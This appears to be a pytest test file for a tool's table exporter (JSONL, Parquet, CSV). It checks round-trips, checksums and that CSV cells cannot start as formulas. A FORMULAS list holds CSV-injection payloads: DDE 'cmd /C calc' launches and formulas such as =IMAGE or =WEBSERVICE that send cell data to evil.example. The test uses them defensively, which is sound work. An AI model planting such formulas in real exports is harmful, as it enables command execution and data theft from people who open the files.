"""Exported tables hold the record, whole, for programs; and for spreadsheets without anything that runs."""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import duckdb
import msgspec
import pyarrow.parquet as pq
import pytest

from tellings.errors import Usage
from tellings.exports.cells import cell
from tellings.exports.tables import write_tables
from tellings.records import Evidence, Record, Report
from tellings.records.tables import TABLES, Table
from tellings.stage import Bundle
from tellings.store.columns import from_arrow
from tests.pages import record
from tests.toys import report

PUBLIC = [table for table in TABLES if table.public]
BEGINNINGS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\0")
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/c calc.exe'!_xlbgnm.A1", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=IMPORTDATA(\"http://evil.example\")",
    "=IMAGE(\"http://evil.example/\"&A1)", "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=1+cmd|' /C calc'!A0", "=rundll32|'url.dll,OpenURL calc.exe'!A", "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "+1+1", "+cmd|' /C calc'!A0", "+SUM(1,1)*cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "-cmd|'/c x'!A0",
    "@SUM(1+1)", "@SUM(1+9)*cmd|' /C calc'!A0", "@=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\r\n=1+1",
    "\t\t@SUM(1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "==1", "=+-@1", "=\"\"&1", "='x'", "=A1;=A2", "=A1,=A2",
    "=1\",=1", "+\"=1\"", "-\n=1",
)  # fmt: skip


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The record of the invented pile in all formats."""
    made = tmp_path_factory.mktemp("exported")
    for form in ("jsonl", "parquet", "csv"):
        write_tables(record(), made / form, form)
    return made


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("table", PUBLIC, ids=lambda t: t.name)
def test_jsonl_and_parquet_give_the_rows_back(folder: Path, table: Table) -> None:
    rows = record().all(table.record)
    lines = (folder / "jsonl" / f"{table.name}.jsonl").read_bytes().splitlines()
    assert tuple(msgspec.json.decode(line, type=table.record) for line in lines) == rows
    assert from_arrow(table.record, pq.read_table(folder / "parquet" / f"{table.name}.parquet")) == rows


@pytest.mark.parametrize("table", PUBLIC, ids=lambda t: t.name)
def test_duckdb_reads_the_same_rows(folder: Path, table: Table) -> None:
    with duckdb.connect() as connection:
        rows = connection.execute(f"select * from '{folder}/parquet/{table.name}.parquet'").fetchall()
    first = table.record.__struct_fields__[0]
    assert [row[0] for row in rows] == [getattr(row, first) for row in record().all(table.record)]


@pytest.mark.parametrize("table", PUBLIC, ids=lambda t: t.name)
def test_csv_has_a_row_a_row_and_a_column_a_column(folder: Path, table: Table) -> None:
    rows = cells(folder / "csv" / f"{table.name}.csv")
    assert len(rows) == len(record().all(table.record))
    assert all(tuple(row) == table.record.__struct_fields__ for row in rows)


def test_tables_are_all_there_with_their_digests(folder: Path) -> None:
    for form, more in (("jsonl", set()), ("parquet", set()), ("csv", {"columns.md"})):
        names = {f"{table.name}.{form}" for table in PUBLIC}
        assert {path.name for path in (folder / form).iterdir()} == names | more | {"SHA256SUMS"}
        listed = dict(line.split("  ")[::-1] for line in (folder / form / "SHA256SUMS").read_text().splitlines())
        assert listed == {n: hashlib.sha256((folder / form / n).read_bytes()).hexdigest() for n in names}


def test_same_record_gives_the_same_bytes(folder: Path, tmp_path: Path) -> None:
    for form in ("jsonl", "parquet", "csv"):
        for path in write_tables(record(), tmp_path / form, form):
            assert path.read_bytes() == (folder / form / path.name).read_bytes(), path.name


def test_unknown_format_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Usage, match="jsonl, parquet, csv"):
        write_tables(record(), tmp_path, "xlsx")


def poisoned(row: Record, formula: str) -> Record:
    """The row with a formula in every column that takes any text."""
    fields = {f.encode_name: f.type for f in msgspec.inspect.type_info(type(row)).fields}  # type: ignore[union-attr]
    texts = {
        name: formula for name, kind in fields.items() if "StrType" in str(kind)[:60] and "Struct" not in str(kind)
    }
    return msgspec.structs.replace(
        row, **{n: (v,) if isinstance(getattr(row, n), tuple) else v for n, v in texts.items()}
    )  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_as_a_formula(tmp_path: Path, formula: str) -> None:
    full = [table for table in PUBLIC if record().all(table.record)]
    rows = {table.record: [poisoned(record().all(table.record)[0], formula)] for table in full}
    write_tables(Bundle("pile", rows), tmp_path, "csv")
    met = 0
    for table in full:
        for row in cells(tmp_path / f"{table.name}.csv"):
            for value in row.values():
                number = value.lstrip("-").replace(".", "", 1).isdigit()
                assert number or not value.startswith(BEGINNINGS), (table.name, value)
                met += value.startswith("'")
    assert met > 30


def test_numbers_stay_numbers() -> None:
    assert [cell(value) for value in (-3, 0, 2.5, True, None)] == [-3, 0, 2.5, "true", ""]


def test_evidence_is_a_place_and_lists_are_joined() -> None:
    cited = Evidence(report_id="rabc", start=3, end=5, text="==")
    assert cell(msgspec.to_builtins([cited, cited])) == "rabc:3-5 | rabc:3-5"


def test_text_of_many_scripts_and_lines_survives_csv(tmp_path: Path) -> None:
    text = 'Zwei "Zeilen",\nпо-русски; 漢字 🎙️, \u202eback'
    write_tables(Bundle("pile", {Report: [report(text)]}), tmp_path, "csv")
    assert cells(tmp_path / "reports.csv")[0]["text"] == text
